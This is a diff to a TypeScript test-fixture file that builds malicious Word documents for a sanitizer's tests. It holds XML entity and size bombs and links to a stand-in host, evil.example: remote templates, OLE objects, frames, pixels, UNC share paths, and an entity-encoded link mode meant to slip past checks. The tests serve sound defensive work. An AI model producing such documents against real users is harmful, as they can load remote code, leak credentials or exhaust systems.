@@ -1,4 +1,4 @@
-/** Word documents that unpack to far more than they are, or fetch something, each a few kilobytes or a megabyte long. */
+/** Word documents that unpack to far more than they are, or name something elsewhere, each a few kilobytes or a megabyte long. */
 import { constants, crc32, deflateRawSync } from 'node:zlib';
 
 export type PackedEntry = {
@@ -106,9 +106,6 @@ const LAUGHS = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">${Array.from({
 const SHIFT_JIS = '<?xml version="1.0" encoding="shift_jis"?><w:ftr/>';
 
 const utf16 = (text: string) => Buffer.from(`\ufeff${text.replace('<?xml version="1.0"?>', '')}`, 'utf16le');
-
-const linked = (type: string, target: string, mode = 'External') =>
-  packedDocx(entry('word/_rels/document.xml.rels', relationships({ type, target, mode })));
 
 const LINKS_OF_SETTINGS = 'word/_rels/settings.xml.rels';
 const EXTERNAL_TEMPLATE = entry(
@@ -220,14 +217,21 @@ export const bombsByContent = (): Record<string, Buffer> => ({
     entry('word/footer1.xml', SHIFT_JIS.replace(' encoding', `${' '.repeat(2_000)}encoding`)),
   ),
   'a part in EBCDIC under another name': packedDocx(entry('word/footer.bin', Buffer.from('4c6fa79493', 'hex'))),
+  'a relationship without an end': packedDocx(
+    entry('word/_rels/document.xml.rels', `<Relationships><Relationship ${'a'.repeat(500_000)}/></Relationships>`),
+  ),
+});
+
+const linked = (type: string, target: string, mode = 'External') =>
+  packedDocx(entry('word/_rels/document.xml.rels', relationships({ type, target, mode })));
+
+/** Word would follow the links of these by itself. They are taken, and their links emptied. */
+export const linkedDocuments = (): Record<string, Buffer> => ({
   'an external template': linked('attachedTemplate', 'https://evil.example/a.dotm'),
   'an external template of the network': linked('attachedTemplate', 'file:///\\\\evil.example\\share\\a.dotm'),
   'an external object': linked('oleObject', 'https://evil.example/a.bin'),
   'an external frame': linked('frame', 'https://evil.example/'),
   'an external picture': linked('image', 'https://evil.example/pixel.png'),
-  'a relationship without an end': packedDocx(
-    entry('word/_rels/document.xml.rels', `<Relationships><Relationship ${'a'.repeat(500_000)}/></Relationships>`),
-  ),
   'an external picture of the network': linked('image', 'file://evil.example/share/pixel.png'),
   'an external template that is spelt otherwise': linked('attachedTemplate', 'https://evil.example/', '&#69;xternal'),
 });
